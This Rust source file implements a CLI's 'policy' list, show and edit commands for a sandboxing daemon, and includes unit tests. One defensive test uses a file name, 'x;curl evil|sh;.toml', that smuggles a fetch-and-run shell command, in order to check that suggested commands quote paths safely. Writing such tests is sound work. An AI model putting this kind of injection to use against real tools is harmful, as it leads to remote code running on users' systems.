//! `guard policy`: which policies have a name, what is in them, and a copy to change. What a fleet has, guardd alone knows; the rest
//! needs none.

use std::collections::BTreeSet;
use std::ffi::OsString;
use std::fs::{self, File};
use std::io::{self, IsTerminal as _, Write as _};
use std::path::{Path, PathBuf};
use std::process::Command;

use clap_complete::engine::CompletionCandidate;
use guard_policy::{self as policy, Severity};
use guard_proto::{Call, Failure, SessionsReply};
use serde::Serialize;

use crate::args::PolicyVerb;
use crate::around::Fleet;
use crate::error::{CliError, Exit};
use crate::misplaced::is_program;
use crate::person::Person;
use crate::policy::{apply, valid};
use crate::policy_file::{
    INSTALLED, PolicyFile, ask, dirs, dirs_of_guardd, installed, is_file, is_machines, is_policy,
    personal,
};
use crate::render::escape::escaped;
use crate::render::page::{BAD, Page, STRONG};
use crate::render::status::Broken;
use crate::render::time::Clock;
use crate::render::{Output, command_line, path_word};

/// A policy that has a name.
#[derive(Debug, Serialize)]
struct Named {
    name: String,
    /// Null: it is built in, or the fleet's.
    file: Option<PathBuf>,
    /// What is wrong with it first: nothing runs under it. Null: nothing, or this user may not read it.
    error: Option<String>,
    /// Whether it is the fleet's.
    fleet: bool,
    /// Whether it lies around each session.
    around: bool,
}

/// The same, with its text.
#[derive(Debug, Serialize)]
struct ShownPolicy {
    #[serde(flatten)]
    named: Named,
    text: String,
}

/// A copy that was edited, or is to be.
#[derive(Debug, Serialize)]
struct Edited {
    name: String,
    file: PathBuf,
    /// Whether the copy was made just now.
    copied: bool,
    /// Whether an editor was opened.
    opened: bool,
    /// Whether guardd looks there; null: none runs, or it is a person's own.
    read: Option<bool>,
    /// Whether it is a person's own, which `guard run` reads.
    own: bool,
}

/// `guard policy`
pub(crate) fn policy(verb: PolicyVerb, output: Output) -> Result<Exit, CliError> {
    match verb {
        PolicyVerb::List => {
            Fleet::known().tell(output);
            let under = || ask(&Call::Sessions {}).and_then(Result::ok);
            output.print(all(Fleet::known()).as_slice(), |all, clock| {
                let mut page = list(all, clock);
                let under: SessionsReply = under().unwrap_or_default();
                apply::note(&mut page, &under.sessions);
                page
            })?;
        }
        PolicyVerb::Show { name } => {
            Fleet::known().tell(output);
            show(name, output)?;
        }
        PolicyVerb::Edit { name, policy_dir } => {
            return edit(&name, policy_dir.as_deref(), output);
        }
        // Those have modules of their own.
        PolicyVerb::Apply(_)
        | PolicyVerb::Check(_)
        | PolicyVerb::Sign(_)
        | PolicyVerb::Offer { .. } => {}
    }
    Ok(Exit::DONE)
}

impl Named {
    fn of(name: String, of_fleet: &Fleet) -> Self {
        let fleet = of_fleet.names().contains(&name);
        // Of one's own, also what is no file that a policy can be in.
        let own = || Some(Person::own().policies()?.join(format!("{name}.toml")));
        let file = match is_machines(&name) {
            _ if fleet => None,
            true => installed(&name),
            false => own().filter(|file| file.exists()),
        };
        Self {
            error: file.as_deref().and_then(error),
            around: of_fleet.around().as_ref() == Some(&name),
            fleet,
            name,
            file,
        }
    }
}

/// What is wrong with a policy's file first; none as well where it cannot be read.
fn error(file: &Path) -> Option<String> {
    if fs::metadata(file).is_ok_and(|is| !is.is_file()) {
        return Some("it is no regular file".to_owned());
    }
    let file = PolicyFile::read_kept(file).ok()?;
    let wrong = valid(&file).err()?;
    let first = wrong.iter().find(|one| one.severity == Severity::Error)?;
    Some(format!("line {}: {}", first.line, first.message))
}

/// The files in these directories that are no policies, though they are called so.
pub(crate) fn broken(dirs: &[PathBuf]) -> Vec<Broken> {
    let files = dirs.iter().flat_map(fs::read_dir).flatten().flatten();
    let broken = files.filter_map(|entry| {
        let name = entry.file_name().into_string().ok()?;
        let name = name.strip_suffix(".toml")?.to_owned();
        let file = entry.path();
        let error = error(&file)?;
        Some(Broken { name, file, error })
    });
    let mut broken: Vec<_> = broken.collect();
    broken.sort_by(|one, other| one.file.cmp(&other.file));
    broken
}

/// All of them, by name.
fn all(of_fleet: &Fleet) -> Vec<Named> {
    let shipped = policy::SHIPPED.iter().map(|(name, _)| (*name).to_owned());
    let dirs = dirs().iter().cloned();
    let dirs = dirs.chain(Person::own().policies());
    let files = dirs.flat_map(fs::read_dir).flatten().flatten();
    let files = files.filter_map(|file| {
        let name = file.file_name().into_string().ok()?;
        Some(name.strip_suffix(".toml")?.to_owned())
    });
    let names: BTreeSet<String> = shipped.chain(files).chain(of_fleet.names()).collect();
    let named = |name| Named::of(name, of_fleet);
    names.into_iter().map(named).collect()
}

/// All of them, as completions have them.
pub(crate) fn candidates() -> Vec<CompletionCandidate> {
    let all = all(Fleet::known()).into_iter();
    let candidates = all.map(|one| {
        let place = place(&one);
        CompletionCandidate::new(one.name).help(Some(place.into()))
    });
    candidates.collect()
}

fn list(all: &[Named], _clock: &Clock) -> Page {
    let mut page = Page::default();
    let rows = all.iter().map(|one| {
        let is = if one.error.is_some() { " (broken)" } else { "" };
        [one.name.clone(), format!("{}{is}", place(one))]
    });
    page.table(["NAME", "FROM"], rows);
    for one in all {
        if let (Some(file), Some(error)) = (&one.file, &one.error) {
            page.styled(BAD, "broken").text("  ");
            page.line(format_args!("{}, {error}", file.display()));
            if file.is_file() {
                page.commands(format_args!("guard check {}", path_word(file)));
            }
        }
    }
    if let Some(around) = all.iter().find(|one| one.around) {
        page.styled(STRONG, &around.name)
            .line(" lies around each session: what it does not let through, no other policy does.");
    }
    page
}

fn place(named: &Named) -> String {
    match &named.file {
        _ if named.around => "the fleet, around each session".to_owned(),
        _ if named.fleet => "the fleet".to_owned(),
        Some(file) => file.display().to_string(),
        None => "built in".to_owned(),
    }
}

fn show(name: String, output: Output) -> Result<(), CliError> {
    check_name(&name, "policy show", "cat")?;
    let text = PolicyFile::named(&name)?.text;
    if output.is_json() {
        let named = Named::of(name, Fleet::known());
        return output.print(&ShownPolicy { named, text }, |_, _| Page::default());
    }
    let mut out = io::stdout().lock();
    // As it is, so that it can be written to a file; but a terminal obeys some of what may stand in a comment.
    let text = match out.is_terminal() {
        true => on_terminal(&text),
        false => text,
    };
    let said = out.write_all(text.as_bytes()).and_then(|()| out.flush());
    said.map_err(|error| CliError::output(&error))
}

/// A text whose lines and tabs stay, and nothing else that steers a terminal.
fn on_terminal(text: &str) -> String {
    let line = |line: &str| {
        let parts = line.split('\t').map(|part| escaped(part, usize::MAX));
        parts.collect::<Vec<_>>().join("\t") + "\n"
    };
    text.lines().map(line).collect()
}

fn edit(name: &str, named: Option<&Path>, output: Output) -> Result<Exit, CliError> {
    check_name(name, "policy edit", "open it in your editor:")?;
    is_not_fleets(name, Fleet::known())?;
    let usual = dirs()
        .first()
        .map_or(Path::new(INSTALLED[0]), PathBuf::as_path);
    let dir = named.unwrap_or(usual);
    let is_usual = dir == usual;
    // What a person wrote for themselves is changed where it is.
    let own = (is_usual && !is_machines(name)).then(|| personal(name, &Person::own()));
    let own = own.flatten();
    let is_own = own.is_some();
    let again = again(name, dir);
    let fix = match own {
        Some(_) => again.clone(),
        None if is_usual => format!(
            "change it for everybody, or have a file of your own:\nsudo {again}\n{}",
            own_copy(name)
        ),
        None => format!("sudo {again}"),
    };
    let file = own.unwrap_or_else(|| dir.join(format!("{name}.toml")));
    let copied = make_writable(&file, name, dir, &fix)?;
    let is_terminal = io::stdin().is_terminal() && io::stdout().is_terminal();
    let opened = !output.is_json() && is_terminal && open(&file)?;
    if opened {
        PolicyFile::read(&file)?
            .parse(output)
            .map_err(|error| retry(error, &again))?;
    }
    let read = dirs_of_guardd().filter(|_| !is_own);
    let dir = std::path::absolute(dir).unwrap_or_else(|_| dir.to_owned());
    let edited = Edited {
        name: name.to_owned(),
        file,
        copied,
        opened,
        read: read.map(|dirs| dirs.contains(&dir)),
        own: is_own,
    };
    output.print(&edited, next)?;
    if is_own && opened {
        apply::offer(&edited.file, name, output)?;
    }
    Ok(Exit::DONE)
}

/// Copies the policy to that file where there is none, and says whether it did. Fails before an editor would find out that it may
/// not write.
fn make_writable(file: &Path, name: &str, dir: &Path, fix: &str) -> Result<bool, Failure> {
    let not_written = |why: io::Error| Failure {
        what: format!("cannot write {}", file.display()),
        why: match why.kind() {
            io::ErrorKind::PermissionDenied => "you may not: it takes root".to_owned(),
            _ => why.to_string(),
        },
        fix: fix.to_owned(),
    };
    if file.exists() {
        let written = File::options().append(true).open(file);
        return written.map(|_| false).map_err(not_written);
    }
    let policy = PolicyFile::named(name)?;
    copy(&policy.text, dir, file)
        .map(|()| true)
        .map_err(not_written)
}

/// A copy of the fleet's would count for nothing: that goes before it.
fn is_not_fleets(name: &str, fleet: &Fleet) -> Result<(), Failure> {
    match fleet.policy(name)? {
        None => Ok(()),
        Some(_) => Err(Failure {
            what: format!("cannot edit the policy {name}"),
            why: "it is the fleet's, and changed by those who sign it".to_owned(),
            fix: format!(
                "have a file of your own that begins with it:\n{}",
                own_copy(name)
            ),
        }),
    }
}

/// How a person makes a file of their own of it. With the name that it has there, it would be taken for the machine's.
fn own_copy(name: &str) -> String {
    format!(
        "guard policy show {name} > my-{name}.toml\nin it: name = \"my-{name}\"\nguard run --policy ./my-{name}.toml -- CMD"
    )
}

/// What was typed.
fn again(name: &str, dir: &Path) -> String {
    match dir == Path::new(INSTALLED[0]) {
        true => format!("guard policy edit {name}"),
        false => format!("guard policy edit {name} --policy-dir {}", path_word(dir)),
    }
}

/// What is invalid is corrected by the same command.
fn retry(error: CliError, again: &str) -> CliError {
    match error {
        CliError::Local(failure) => CliError::Local(Failure {
            fix: format!(
                "until then guardd keeps to what it has read before; edit it again:\n{again}"
            ),
            ..failure
        }),
        other => other,
    }
}

/// Never over what is there.
fn copy(text: &str, dir: &Path, file: &Path) -> io::Result<()> {
    fs::create_dir_all(dir)?;
    File::create_new(file)?.write_all(text.as_bytes())
}

/// Editors, where neither VISUAL nor EDITOR names one: sudo passes on neither.
const EDITORS: [&str; 3] = ["editor", "vi", "nano"];

/// Opens it in the person's editor, and waits; false where there is none.
fn open(file: &Path) -> Result<bool, Failure> {
    let named = ["VISUAL", "EDITOR"].iter().find_map(std::env::var_os);
    let named = named.filter(|editor| !editor.is_empty());
    let known = || {
        EDITORS
            .into_iter()
            .find(|editor| is_program(editor.as_ref()))
    };
    let Some(editor) = named.or_else(|| known().map(OsString::from)) else {
        return Ok(false);
    };
    // It may have arguments.
    let mut shell = Command::new("sh");
    shell.args(["-c", "exec $GUARD_EDITOR \"$1\"", "sh"]);
    let done = shell.arg(file).env("GUARD_EDITOR", &editor).status();
    let failed = |why: String| Failure {
        what: format!("your editor, {}, did not do it", editor.display()),
        why,
        fix: format!(
            "set EDITOR to another, or open it yourself:\n{}",
            path_word(file)
        ),
    };
    match done {
        Ok(status) if status.success() => Ok(true),
        Ok(status) if status.code() == Some(127) => {
            Err(failed("there is no such program".to_owned()))
        }
        Ok(status) => Err(failed(format!("it ended with {status}"))),
        Err(why) => Err(failed(why.to_string())),
    }
}

fn next(edited: &Edited, _clock: &Clock) -> Page {
    let (file, word) = (edited.file.display(), path_word(&edited.file));
    let mut page = Page::default();
    page.styled(STRONG, &edited.name).line(match edited.copied {
        true if edited.read == Some(false) => format!(" is copied to {file}."),
        true => format!(" is copied to {file}, which counts from now on."),
        false => format!(" is {file}."),
    });
    if edited.read == Some(false) {
        let dirs = dirs().iter().map(|dir| dir.display().to_string());
        let dirs = dirs.collect::<Vec<_>>().join(" and ");
        page.line(format_args!(
            "guardd does not look there: its policies are in {dirs}. As a file it can be run under:"
        ));
        page.commands(format_args!(
            "guard check {word}\nguard run --policy {word} -- CMD"
        ));
        return page;
    }
    if edited.own {
        let name = &edited.name;
        page.line(match edited.opened {
            true => "It is valid, and judges what you start under it from now on:",
            false => "Change it there. Sessions that run under it have it as it was, until you say otherwise:",
        });
        page.commands(match edited.opened {
            true => format!("guard run --policy {name} -- CMD"),
            false => format!("guard check {word}\nguard policy apply {name}"),
        });
        return page;
    }
    match edited.opened {
        true => page.line("It is valid. A guardd that runs has read it: what it enforces, and what it says of it:"),
        false => page.line("Change it there. A guardd that runs reads it when it is saved; check it before:"),
    };
    page.commands(match edited.opened {
        true => "guard status".to_owned(),
        false => format!("guard check {word}\nguard status"),
    });
    page
}

/// A file is read and edited by what files are; or the policy that is called like it is meant.
fn check_name(name: &str, verb: &str, otherwise: &str) -> Result<(), Failure> {
    if !is_file(name) {
        return Ok(());
    }
    let stem = Path::new(name).file_stem().and_then(|stem| stem.to_str());
    let fix = match stem.filter(|stem| !name.contains('/') && is_policy(stem)) {
        Some(stem) => format!("guard {verb} {stem}"),
        None => format!("{otherwise} {}", command_line(&[name.to_owned()])),
    };
    Err(Failure {
        what: format!("{name} is a file, and no policy's name"),
        why: "a name has no slash in it, and no .toml at its end".to_owned(),
        fix,
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_pipe_among_policies_is_none_and_nobody_waits_for_it() {
        let home = tempfile::tempdir().unwrap();
        let policies = home.path().join(".config/guard/policies");
        fs::create_dir_all(&policies).unwrap();
        let pipe = policies.join("shop.toml");
        let made = Command::new("mkfifo").arg(&pipe).status().unwrap();
        assert!(made.success());
        assert_eq!(error(&pipe).as_deref(), Some("it is no regular file"));
        assert_eq!(broken(&[policies])[0].name, "shop");
        let refused = PolicyFile::read_kept(&pipe).unwrap_err();
        assert!(refused.why.contains("it is no regular file"), "{refused}");
        assert_eq!(personal("shop", &Person::of_home(home.path())), None);
    }

    /// What runs as the person chooses such a name.
    #[test]
    fn a_command_to_copy_has_a_path_as_one_word() {
        let dir = tempfile::tempdir().unwrap();
        let file = dir.path().join("x;curl evil|sh;.toml");
        fs::write(&file, "").unwrap();
        let word = format!("'{}'", file.display());
        let named = Named {
            name: "x".to_owned(),
            file: Some(file.clone()),
            error: Some("line 1: no".to_owned()),
            fleet: false,
            around: false,
        };
        let clock = crate::render::examples::clock();
        let listed = list(&[named], &clock).plain();
        assert!(
            listed.contains(&format!("guard check {word}\n")),
            "{listed}"
        );
        let edited = Edited {
            name: "x".to_owned(),
            file: file.clone(),
            copied: true,
            opened: false,
            read: Some(false),
            own: false,
        };
        let edited = next(&edited, &clock).plain();
        assert!(
            edited.contains(&format!("guard run --policy {word} -- CMD")),
            "{edited}"
        );
        let invalid = PolicyFile {
            name: file.display().to_string(),
            text: "x".to_owned(),
        };
        let error = invalid.parse(Output::new(true)).unwrap_err();
        let fix = &error.failure().unwrap().fix;
        assert!(fix.ends_with(&format!("guard check {word}")), "{fix}");
    }

    #[test]
    fn what_the_fleet_has_is_listed_and_is_not_ones_own_to_edit() {
        let fleet = crate::around::tests::around("default = \"deny\"\n");
        let all = all(&fleet);
        let page = list(&all, &crate::render::examples::clock()).plain();
        for line in [
            "builds    the fleet\n",
            "floor     the fleet, around each session\n",
            "floor lies around each session",
        ] {
            assert!(page.contains(line), "{line}: {page}");
        }
        let refused = is_not_fleets("builds", &fleet).unwrap_err();
        assert!(
            refused.fix.contains(
                "guard policy show builds > my-builds.toml\nin it: name = \"my-builds\"\n"
            )
        );
        assert!(is_not_fleets("homelab", &fleet).is_ok());
    }

    #[test]
    fn what_ships_is_listed_and_can_be_copied_once() {
        let all = all(&Fleet::None);
        let names: Vec<_> = all.into_iter().map(|one| one.name).collect();
        for (shipped, text) in policy::SHIPPED {
            assert!(names.contains(&(*shipped).to_owned()), "{names:?}");
            let dir = tempfile::tempdir().unwrap();
            let (policies, file) = (
                dir.path().join("policies"),
                dir.path().join("policies/x.toml"),
            );
            copy(text, &policies, &file).unwrap();
            assert_eq!(fs::read_to_string(&file).unwrap(), *text);
            let again = copy("other", &policies, &file).unwrap_err();
            assert_eq!(again.kind(), io::ErrorKind::AlreadyExists);
        }
    }

    #[test]
    fn a_file_is_no_name_of_a_policy() {
        let show = |name| check_name(name, "policy show", "cat").map_err(|failure| failure.fix);
        assert_eq!(show("default"), Ok(()));
        for (name, fix) in [
            ("default.toml", "guard policy show default"),
            ("./default.toml", "cat ./default.toml"),
            ("my lab.toml", "cat 'my lab.toml'"),
        ] {
            assert_eq!(show(name), Err(fix.to_owned()));
        }
    }
}
